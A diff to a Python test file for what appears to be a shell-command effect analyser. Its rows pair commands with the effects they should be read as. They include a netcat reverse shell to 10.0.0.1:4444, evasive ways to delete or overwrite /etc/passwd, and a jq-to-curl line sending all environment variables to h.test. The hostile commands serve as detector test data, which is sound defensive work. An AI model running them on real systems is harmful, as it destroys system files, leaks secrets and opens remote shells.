@@ -378,6 +378,11 @@ ROWS = [
     row("start-stop-daemon -K -n nginx", "kill name:nginx"),
     row("skill -KILL -c nginx", "kill name:nginx"),
     row("coproc sh; nc 10.0.0.1 4444 <&\"${COPROC[0]}\" >&\"${COPROC[1]}\"", f"shell {ADDRESS}"),
+    row("echo 'D = /etc/passwd' > c; printf 'include c\\na:\\n\\trm $(D)\\n' > m; make -f m", "delete /etc/passwd"),
+    row("f() { rm \"$2\"; }; mapfile -t -c 1 -C f lines <<< /etc/passwd", "delete /etc/passwd"),
+    row("printf -- '--- a/etc/x\\n+++ b/etc/x\\n' | patch -p1 -d /", "write /etc/x"),
+    row("awk '{ print 1 > FILENAME }' /etc/passwd", "write /etc/passwd"),
+    row("jq -n '{e: env}' | curl -d @- h.test", "send h.test", origin="environment:"),
     # what they leave
     row("gzip /etc/passwd", "move /etc/passwd"),
     row("openssl rand -out /etc/passwd 9", "write /etc/passwd"),
@@ -608,3 +613,23 @@ def test_any_text_is_read(text: str) -> None:
 @settings(max_examples=400, deadline=None)
 def test_any_damaged_block_is_read(wanted: Row, place: int, token: str) -> None:
     read_within_bounds(wanted.code[:place] + token + wanted.code[place + 1 :])
+
+
+SCRIPT_TOKENS = [
+    "BEGIN", "END", "{", "}", "(", ")", "print", "printf", "$1", "$", "x", "a[i]", "=", "+=", '"s"', "/re/", "~", "if",
+    "while", "for", "in", "split(x,a)", "sub(/a/,x)", 'system("rm x")', "getline", "|", ">", ",", ";", "++", "-", "!",
+    "function f(a)", "f(1)", "s/a/b/", r"s/\(.*\)/\1\1/g", "y/ab/cd/", "D", "G", "N", "ta", ":a", "2,4", "w f", "e ls",
+    r"a\ t", "\\", "[", "]", "*", r"\{2\}", "eval", "shift", "chr", "65", 'pack("H*","61")', "unlink", "`ls`",
+]  # fmt: skip
+
+
+@given(
+    st.sampled_from(
+        ["awk ", "sed ", "sed -E ", "sed -i ", "grep ", "perl -e ", "php -r ", "node -e ", "jq ", "vim -c "]
+    ),
+    st.lists(st.sampled_from(SCRIPT_TOKENS), max_size=14),
+    st.sampled_from([" ", "", "\n"]),
+)
+@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+def test_any_splice_of_another_language_is_read(program: str, tokens: list[str], between: str) -> None:
+    read_within_bounds(f"printf 'a b\\nc d\\n' | {program}'{between.join(tokens)}' f")
